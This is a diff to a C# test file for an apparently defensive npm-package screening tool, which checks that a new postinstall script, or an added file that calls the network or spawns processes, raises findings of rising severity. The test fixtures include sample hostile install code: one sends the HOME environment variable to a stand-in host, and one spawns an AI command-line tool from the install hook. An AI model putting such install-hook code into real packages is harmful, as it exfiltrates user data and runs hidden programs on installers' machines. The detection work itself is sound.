@@ -1,5 +1,6 @@
 using Sluice.Findings;
 using Sluice.Policies;
+using Sluice.Profiles;
 using Sluice.Tests.Support;
 
 namespace Sluice.Tests.Profiles;
@@ -77,6 +78,27 @@ public sealed class InstallationStepTests
         var report = Screen(Releases.Pack(6, ""","bin":{"one":"bin/acme"},"directories":{"bin":"bin"}""", ("bin/acme", "#!/usr/bin/env node\n1;\n"), ("bin/two", "#!/usr/bin/env node\n1;\n")));
 
         Assert.Equal("bin.one", Assert.Single(report.Artifact.Manifest!.EntryPoints, point => point.Field.StartsWith("bin.", StringComparison.Ordinal)).Field);
+    }
+
+    /// <summary>A package that has always run a file where it is installed, and that talks to others and starts programs elsewhere.</summary>
+    [Theory]
+    [InlineData("node setup.js", "", null)]
+    [InlineData("node ./setup", "", Severity.Medium)]
+    [InlineData("node telemetry.js", "module.exports = 1;\n", Severity.Medium)]
+    [InlineData("node telemetry.js", "require('child_process').spawnSync('claude', ['-p', 'search']);\n", Severity.High)]
+    [InlineData("node telemetry.js", "const https = require('https');\nhttps.request({ hostname: 'api.example' }).end(process.env.HOME);\n", Severity.High)]
+    public void Another_command_warns_and_stops_together_with_what_its_file_reaches_for(string command, string text, Severity? worst)
+    {
+        (string Path, string Text)[] known = [("setup.js", "module.exports = 0;\n"), ("client.js", "require('https').get('https://api.example/');\nprocess.env.HOME;\n"), ("run.js", "require('child_process').execSync('ls');\n")];
+        static byte[] Pack(int patch, string command, (string, string)[] files) => Releases.Pack(patch, $$$""","scripts":{"postinstall":"{{{command}}}"}""", files);
+        var profile = new Profile("npm:acme-add");
+        for (var release = 1; release <= 8; release++)
+            profile.Learn(ReleaseShape.Of(Screening.Of("acme-add.tgz", Pack(release, "node setup.js", known), new ScreenOptions { Profiles = new ProfileBook() }).Artifact), null);
+
+        var report = Screening.Of("acme-add.tgz", Pack(9, command, text.Length == 0 ? known : [.. known, ("telemetry.js", text)]), new ScreenOptions { Profiles = new ProfileBook([profile]) { Survey = Survey.Parse("400\n8 install-commands:another install-files") } });
+        var found = report.Findings.Where(finding => finding.Finding.Rule.Id is "deviation/new-script" or "deviation/new-capability").Select(finding => finding.Finding.Severity).ToList();
+
+        Assert.Equal(worst, found.Count == 0 ? null : found.Max());
     }
 
     private static string Bundled(string script, string command = "node x.js") => $$$"""{"name":"aa","version":"1.0.0","license":"MIT","scripts":{"{{{script}}}":"{{{command}}}"}}""";
